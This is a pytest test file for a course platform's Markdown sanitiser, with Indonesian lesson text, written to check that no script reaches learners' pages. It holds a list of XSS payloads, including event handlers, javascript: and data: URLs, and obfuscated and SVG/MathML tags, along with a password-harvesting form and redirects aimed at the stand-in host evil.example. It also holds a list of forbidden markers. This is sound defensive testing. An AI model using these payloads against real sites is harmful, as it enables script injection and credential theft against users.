"""Lesson Markdown is rendered once and sanitised: no script ever reaches a learner's page."""

from __future__ import annotations

import pytest

from courses.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "![gambar](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html,<script>alert(1)</script>)",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<img src="x" srcset="javascript:alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "`<script>alert(1)</script>` inline code is shown as text",
]

FORBIDDEN = ["<script", "onerror", "onload", "onclick", "ontoggle", "javascript:", "data:text", "<svg", "<math",
             "<iframe", "<object", "<embed", "style=", "<style", "<form", "<input", "<meta", "<base", "<link",
             "srcset", "<video", "<source"]  # fmt: skip


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_neutralised(payload: str) -> None:
    html = render_markdown(f"Paragraf pembuka.\n\n{payload}").lower()
    for marker in FORBIDDEN:
        assert marker not in html, (payload, marker, html)
    assert "<p>paragraf pembuka.</p>" in html  # the rest of the lesson survives


def test_the_allowed_markdown_survives() -> None:
    html = render_markdown(
        "## Judul\n\nTeks **tebal** dan *miring* dengan `kode`.\n\n"
        "- satu\n- dua\n\n1. pertama\n\n> kutipan\n\n"
        "| Lakukan | Hindari |\n|---|---|\n| a | b |\n\n"
        "[sumber](https://www.kominfo.go.id) ![foto](https://contoh.go.id/a.png)\n\n```\nblok kode\n```"
    )
    for fragment in ["<h2>Judul</h2>", "<strong>tebal</strong>", "<em>miring</em>", "<code>kode</code>", "<ul>",
                     "<ol>", "<blockquote>", "<table>", "<th>Lakukan</th>", "<pre><code>blok kode"]:  # fmt: skip
        assert fragment in html, fragment
    assert '<a href="https://www.kominfo.go.id" rel="noopener noreferrer">sumber</a>' in html
    assert 'loading="lazy"' in html


def test_relative_and_mailto_links_are_kept() -> None:
    html = render_markdown("[materi berikut](../lain/) dan [surel](mailto:admin@kominfo.go.id)")
    assert 'href="../lain/"' in html and 'href="mailto:admin@kominfo.go.id"' in html
